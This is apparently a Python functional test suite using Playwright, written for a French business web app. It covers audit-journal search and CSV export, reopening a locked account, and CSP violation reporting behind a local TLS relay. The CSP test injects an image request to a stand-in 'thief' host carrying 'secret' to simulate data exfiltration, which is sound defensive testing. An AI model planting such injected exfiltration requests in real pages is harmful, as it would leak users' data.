"""What an owner watches, in a real Chromium: the journal, a closed account, what CSP stopped."""

import csv
import io
import re
import socket
import socketserver
import ssl
import threading
from contextlib import suppress
from uuid import uuid4

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from encaisse.cli.certificates import self_signed
from encaisse.identity.models import User
from encaisse.organizations.core import Role
from factories.organizations import Firm
from functional.authenticators import Device
from functional.enrolling import member_of
from functional.test_web_passkeys import make_passkey, prove_again, type_password, with_password
from plugins.browser import browser_with
from plugins.world import eventually


@pytest.fixture(scope="module")
def chromium():
    """Reports leave at once rather than once a minute, over a certificate of ours."""
    quick = ("--short-reporting-delay", "--ignore-certificate-errors")
    with browser_with(*quick, is_whole=True) as browser:
        yield browser


@pytest.fixture
def open_tab(chromium, world):
    contexts = []

    def opened():
        context = chromium.new_context(
            viewport={"width": 390, "height": 844},
            base_url=f"http://localhost:{world.port}",
            locale="fr-FR",
        )
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(8000)
        return page

    yield opened
    for context in contexts:
        context.close()


@pytest.fixture
def owner(open_tab):
    """An owner at work, a passkey on their telephone."""
    tab = open_tab()
    tab.device, tab.firm = Device(tab), Firm()
    type_password(tab, with_password(tab.firm.owner))
    make_passkey(tab)
    return tab


def test_the_journal_is_searched_and_taken_away_as_a_table(owner):
    owner.goto("/journal/")
    expect(owner.get_by_role("row")).not_to_have_count(2)
    owner.get_by_label("Quoi").select_option(label="a ajouté un moyen de prouver son identité")
    owner.get_by_role("button", name="Chercher").click()
    rows = owner.locator("tbody tr")
    expect(rows).to_have_count(2)  # the passkey, and the recovery codes that came with it
    expect(rows.first).to_contain_text("a ajouté un moyen de prouver son identité")

    with owner.expect_download() as downloading:
        owner.get_by_role("button", name="Exporter en tableau").click()
    content = downloading.value.path().read_text(encoding="utf-8-sig")

    heading, *lines = csv.reader(io.StringIO(content), delimiter=";")
    assert heading[:4] == ["Numéro", "Date", "Qui", "Quoi"]
    assert [line[3] for line in lines] == ["a ajouté un moyen de prouver son identité"] * 2
    assert re.fullmatch(r"journal-\d{4}-\d\d-\d\d\.csv", downloading.value.suggested_filename)


def test_a_search_that_finds_nothing_says_so_and_shows_the_way_back(owner):
    owner.goto("/journal/?objet=user:personne")

    expect(owner.get_by_text("Rien de tel dans le journal")).to_be_visible()
    owner.get_by_role("link", name="Tout revoir").last.click()
    expect(owner.locator("tbody tr").first).to_be_visible()


def test_a_closed_account_says_why_and_an_owner_opens_it_again(owner, open_tab):
    member = member_of(owner.firm, Role.COLLECTOR)
    User.objects.filter(id=member.id).update(locked_at=timezone.now())
    stranger = open_tab()
    type_password(stranger, member)
    expect(stranger.get_by_role("heading", level=1)).to_have_text("Cette connexion a été refusée")
    expect(stranger.get_by_text("fermé aux nouveaux appareils")).to_be_visible()

    owner.goto("/equipe/")
    owner.get_by_role("link", name=re.compile("^Rouvrir")).click()
    if owner.get_by_role("heading", name="C’est bien vous ?").is_visible():
        prove_again(owner)
    expect(owner.get_by_text("Appelez d’abord cette personne")).to_be_visible()
    owner.get_by_role("button", name="C’était bien elle, rouvrir").click()
    expect(owner.get_by_role("heading", level=1)).not_to_contain_text("Rouvrir")

    assert User.objects.get(id=member.id).locked_at is None
    type_password(stranger, member)
    expect(stranger.get_by_role("heading", level=1)).not_to_have_text(
        "Cette connexion a été refusée"
    )


@pytest.fixture
def over_tls(world, tmp_path):
    """The address of the site behind TLS: Chromium delivers reports over nothing else."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    made = self_signed(tmp_path, "localhost")
    context.load_cert_chain(made.certificate, made.key)

    class Relay(socketserver.BaseRequestHandler):
        def handle(self):
            with (
                context.wrap_socket(self.request, server_side=True) as browser,
                socket.create_connection(("127.0.0.1", world.port)) as site,
            ):
                back = threading.Thread(target=pour, args=(site, browser))
                back.start()
                pour(browser, site)
                back.join()

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Relay) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"https://localhost:{server.server_address[1]}"
        server.shutdown()


def pour(source, target):
    with suppress(OSError):  # one of them left
        while piece := source.recv(65536):
            target.sendall(piece)
    with suppress(OSError):
        target.shutdown(socket.SHUT_RDWR)


def test_what_the_policy_stops_is_reported_by_the_browser_and_logged(chromium, world, over_tls):
    word = f"voleur-{uuid4().hex[:8]}"
    log = world.folder / "web.log"
    start = log.stat().st_size
    context = chromium.new_context(ignore_https_errors=True)
    page = context.new_page()

    page.goto(f"{over_tls}/compte/login/")
    page.evaluate(
        """(word) => {
          const image = document.createElement("img");
          image.src = `https://${word}.test/take?what=secret`;
          document.body.append(image);
        }""",
        word,
    )

    def reported():
        page.wait_for_timeout(100)
        lines = log.read_bytes()[start:].decode().splitlines()
        return next((line for line in lines if "csp_violation" in line and word in line), None)

    line = eventually(reported)
    assert "secret" not in line
    context.close()
